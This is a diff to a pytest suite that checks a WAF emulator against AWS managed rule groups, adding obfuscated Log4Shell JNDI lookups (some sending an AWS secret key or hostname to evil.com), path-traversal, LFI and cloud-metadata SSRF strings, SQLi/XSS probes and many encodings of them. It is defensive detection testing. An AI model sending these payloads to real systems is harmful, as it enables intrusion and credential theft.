@@ -1,5 +1,8 @@
 """Managed groups against AWS's published examples, and against ordinary calls."""
 
+import json
+from urllib.parse import quote
+
 import pytest
 
 from portcullis.gateway.waf.managed import GROUPS
@@ -100,6 +103,30 @@ LOOKUPS = [
     "${jndi:${lower:l}${lower:d}a${lower:p}://x}",
     "${jNdI:LDAPS://x}",
     "${${a:b:c:-j}ndi:ldap://x}",
+    "${jndi:iiop://x/a}",
+    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://x}",
+    "${${lower:j}ndi:ldap://x}",
+    "${jnd${upper:i}:ldap://x}",
+    "${jnd${sys:SYS_NAME:-i}:ldap://x}",
+    "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://x}",
+    "${j${k8s:k5:-ND}i:ldap://x}",
+    "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://x}",
+    "${jndi:ldap://127.0.0.1#evil.com/a}",
+    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.com}",
+    "${jndi:ldap://${hostName}.evil.com/a}",
+    "\\u0024\\u007bjndi:ldap://x\\u007d",
+    "\\x24\\x7bjndi:ldap://x}",
+    "&#36;&#123;jndi:ldap://x}",
+    "&dollar;&lbrace;jndi:ldap://x}",
+    "${ jndi:ldap://x}",
+    "${	jndi:ldap://x}",
+    "${jndi :ldap://x}",
+    "${jndi:\\ldap://x}",
+    "$${jndi:ldap://x}",
+    "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://x}",
+    "${base64:JHtqbmRpOmxkYXA6Ly94fQ==}",
+    "${${lower:${lower:jndi}}:${lower:rmi}://x}",
+    "${jnd${upper:\u0131}:ldap://x}",
 ]
 
 
@@ -126,6 +153,31 @@ PATHS = [
     "..;/admin",
     "/root/.ssh/id_rsa",
     "/proc/self/environ",
+    "..\\..\\..\\windows\\win.ini",
+    "....//....//etc/passwd",
+    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%252f..%252fetc%252fpasswd",
+    "..%c0%af..%c0%afetc/passwd",
+    "%u002e%u002e/etc/passwd",
+    "/etc/passwd%00.png",
+    "/etc/./passwd",
+    "/etc//passwd",
+    "/proc/1/environ",
+    "/var/log/../../etc/passwd",
+    "file:///var/x",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "phar://x",
+    "expect://id",
+    "data://text/plain;base64,PD9waHA=",
+    "C:\\windows\\win.ini",
+    "/..;/..;/etc",
+    "/home/x/.aws/credentials",
+    "http://10.1.2.3/shell.txt",
+    "ftp://192.0.2.7/x",
+    "http://169.254.169.254/latest/meta-data/",
+    "http://[fd00:ec2::254]/latest",
+    "http://2852039166/latest/meta-data/",
+    "http://[::ffff:169.254.169.254]/",
 ]
 
 
@@ -143,7 +195,46 @@ def test_a_path_of_another_kind_passes(web_acl, request_of, text):
     assert acl.evaluate(request_of(headers=AGENT, body=text.encode())).allowed
 
 
-@pytest.mark.parametrize("body", [b"\xac\xed\x00\x05sr", b'{"a": "rO0ABXNyABFqYXZhLnV0aWw"}'])
+ATTACKS = {
+    "' or 1=1--": "SQLi_BODY",
+    "<script>alert(1)</script>": "CrossSiteScripting_BODY",
+    "${jndi:ldap://x/a}": "Log4JRCE_BODY",
+    "../../etc/passwd": "GenericLFI_BODY",
+}
+ENCODINGS = {
+    "URL": lambda text: quote(text).encode(),
+    "URL twice": lambda text: quote(quote(text)).encode(),
+    "HTML entities": lambda text: "".join(f"&#x{ord(c):x};" for c in text).encode(),
+    "entities of URL escapes": lambda text: quote(text).replace("%", "&#37;").encode(),
+    "percent u": lambda text: "".join(f"%u{ord(c):04x}" for c in text).encode(),
+    "escapes of JSON": lambda text: (
+        '{"type": "' + "".join(f"\\u{ord(c):04x}" for c in text) + '"}'
+    ).encode(),
+    **{
+        name: lambda text, name=name: json.dumps({"type": text}).encode(name)
+        for name in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be")
+    },
+    "utf-16 text": lambda text: text.encode("utf-16"),
+}
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+@pytest.mark.parametrize("encoding", ENCODINGS)
+def test_an_attack_is_found_in_every_encoding(web_acl, request_of, text, encoding):
+    acl = web_acl(*(group_rule(g, n, managed(g)) for n, g in enumerate((COMMON, INPUTS, SQL))))
+    body = ENCODINGS[encoding](text)
+    rule = acl.evaluate(request_of(method="POST", headers=AGENT, body=body)).rule
+    assert rule.endswith(f"/{ATTACKS[text]}")
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"\xac\xed\x00\x05sr",
+        b'{"a": "rO0ABXNyABFqYXZhLnV0aWw"}',
+        b"%{(#_memberAccess=@ognl.OgnlContext@X)}",
+    ],
+)
 def test_a_serialized_object_of_java_is_found(web_acl, request_of, body):
     acl = web_acl(group_rule("managed", 1, managed(INPUTS)))
     verdict = acl.evaluate(request_of(headers=AGENT, body=body))
